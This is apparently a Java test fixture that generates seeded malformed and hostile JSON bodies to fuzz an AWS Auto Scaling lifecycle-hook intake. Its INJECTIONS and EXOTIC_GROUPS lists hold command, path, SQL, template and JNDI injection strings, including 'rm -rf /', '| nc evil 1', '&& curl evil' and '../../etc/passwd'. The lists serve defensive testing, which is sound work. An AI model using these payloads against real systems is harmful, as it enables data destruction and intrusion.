package dev.lifeguard.routes;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.UUID;

/**
 * Bodies for the hostile-input test, from a fixed seed so a failure can be replayed: broken and
 * hostile bodies of every kind the intake must refuse, interleaved with valid hooks, some of them
 * from groups with names AWS allows but no tool should take as they are.
 */
final class HostileBodies {
    /** One body and what the service must do with it. */
    record Body(String text, boolean valid, String token) {
    }

    /** Payloads a person might try in an identifier, each meant for a shell, a glob, a path or a template. */
    static final List<String> INJECTIONS = List.of(
            "; rm -rf /", "$(reboot)", "`id`", "| nc evil 1", "&& curl evil", "../../etc/passwd", "*", "?", "[a-z]*",
            "' OR '1'='1", "{{7*7}}", "${jndi:ldap://evil/a}", "%00", "\\u0000", "-L", "--help", "\r\nX-Injected: 1",
            "<script>", "\"quoted\"", "a\u0000b", "a\u0007b", "\u202e", "\ud800", "x".repeat(300));

    /** Group names AWS allows that no Salt target may carry as they are; their hooks still complete. */
    static final List<String> EXOTIC_GROUPS = List.of(
            "fuzz web servers", "fuzz-prod$green", "fuzz-batch *", "fuzz-\u00fcn\u00efc\u00f6d\u00e9", "fuzz-tab\there",
            "fuzz-$(reboot)", "fuzz-;rm -rf /", "fuzz-a:b", "fuzz-" + "g".repeat(250));

    private static final String[] FIELDS = {"AutoScalingGroupName", "EC2InstanceId", "LifecycleHookName", "LifecycleActionToken",
        "LifecycleTransition", "RequestId"};

    private final Random random;

    HostileBodies(long seed) {
        this.random = new Random(seed);
    }

    List<Body> generate(int count, double validShare) {
        List<Body> bodies = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            bodies.add(random.nextDouble() < validShare ? valid() : hostile(i));
        }
        return bodies;
    }

    private Body valid() {
        String token = UUID.randomUUID().toString();
        String group = random.nextInt(3) == 0 ? EXOTIC_GROUPS.get(random.nextInt(EXOTIC_GROUPS.size())) : "fuzz-web";
        return new Body(hook(group, instanceId(), "drain-hook", token), true, token);
    }

    private Body hostile(int i) {
        String token = UUID.randomUUID().toString();
        String valid = hook("fuzz-web", instanceId(), "drain-hook", token);
        return switch (i % 12) {
            case 0 -> bad(valid.substring(0, 1 + random.nextInt(valid.length() - 2)));
            case 1 -> bad(replaceValue(valid, pick(FIELDS), Integer.toString(random.nextInt()), false));
            case 2 -> bad(replaceValue(valid, pick(FIELDS), "{\"nested\": true}", false));
            case 3 -> bad("[".repeat(10_000) + "]".repeat(10_000));
            case 4 -> bad("{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000));
            case 5 -> bad(replaceValue(valid, pick(new String[] {"EC2InstanceId", "LifecycleActionToken"}),
                    "i-0123" + pick(INJECTIONS.toArray(String[]::new)), true));
            case 6 -> bad(replaceValue(valid, "AutoScalingGroupName", "web\u0000asg" + random.nextInt(), true));
            case 7 -> bad(randomUnicode(1 + random.nextInt(200)));
            case 8 -> bad(i % 240 == 8 ? "{\"pad\": \"" + "x".repeat(250_000) + "\"}" : "{\"Event\": \"autoscaling:NOPE\"}");
            case 9 -> bad(random.nextBoolean()
                    ? replaceValue(valid, "LifecycleTransition", "autoscaling:EC2_INSTANCE_" + pick(INJECTIONS.toArray(String[]::new)), true)
                    : replaceValue(valid, "LifecycleHookName", "drain;" + pick(INJECTIONS.toArray(String[]::new)), true));
            case 10 -> bad("{\"Type\": \"Notification\", \"TopicArn\": \"arn:x\", \"Message\": " + quote(randomUnicode(50)) + "}");
            default -> bad("{\"source\": \"aws.autoscaling\", \"detail-type\": \"EC2 Instance-terminate Lifecycle Action\", "
                    + "\"id\": \"" + UUID.randomUUID() + "\", \"detail\": " + replaceValue(valid, "EC2InstanceId", "$(reboot)", true) + "}");
        };
    }

    private static Body bad(String text) {
        return new Body(text, false, null);
    }

    private String instanceId() {
        StringBuilder id = new StringBuilder("i-");
        for (int i = 0; i < 17; i++) {
            id.append("0123456789abcdef".charAt(random.nextInt(16)));
        }
        return id.toString();
    }

    private static String hook(String group, String instanceId, String hook, String token) {
        return "{\"AutoScalingGroupName\": " + quote(group) + ", \"Service\": \"AWS Auto Scaling\", "
                + "\"Time\": \"2026-12-01T00:00:00.000Z\", \"AccountId\": \"123456789012\", "
                + "\"LifecycleTransition\": \"autoscaling:EC2_INSTANCE_TERMINATING\", \"RequestId\": \"" + UUID.randomUUID() + "\", "
                + "\"LifecycleActionToken\": \"" + token + "\", \"EC2InstanceId\": \"" + instanceId + "\", "
                + "\"LifecycleHookName\": " + quote(hook) + "}";
    }

    /** Replaces one field's value with raw JSON, or with a string when {@code asString}. */
    private static String replaceValue(String json, String field, String value, boolean asString) {
        return json.replaceFirst("\"" + field + "\": (\"[^\"]*\"|[^,}]*)",
                java.util.regex.Matcher.quoteReplacement("\"" + field + "\": " + (asString ? quote(value) : value)));
    }

    private String randomUnicode(int length) {
        StringBuilder out = new StringBuilder();
        while (out.length() < length) {
            int codePoint = random.nextInt(0x2FFFF);
            // Only what SQS carries: tab, LF, CR, U+0020–U+D7FF, U+E000–U+FFFD, U+10000 and up.
            if (codePoint == 0x9 || codePoint == 0xA || codePoint == 0xD || codePoint >= 0x20 && codePoint <= 0xD7FF
                    || codePoint >= 0xE000 && codePoint <= 0xFFFD || codePoint >= 0x10000) {
                out.appendCodePoint(codePoint);
            }
        }
        return out.toString();
    }

    private String pick(String[] values) {
        return values[random.nextInt(values.length)];
    }

    /** A JSON string literal; characters SQS cannot carry are escaped rather than sent raw. */
    static String quote(String value) {
        StringBuilder out = new StringBuilder("\"");
        value.chars().forEach(c -> {
            if (c == '"' || c == '\\') {
                out.append('\\').append((char) c);
            } else if (c < 0x20 || c >= 0xD800 && c <= 0xDFFF || c == 0xFFFE || c == 0xFFFF) {
                out.append(String.format("\\u%04x", c));
            } else {
                out.append((char) c);
            }
        });
        return out.append('"').toString();
    }
}
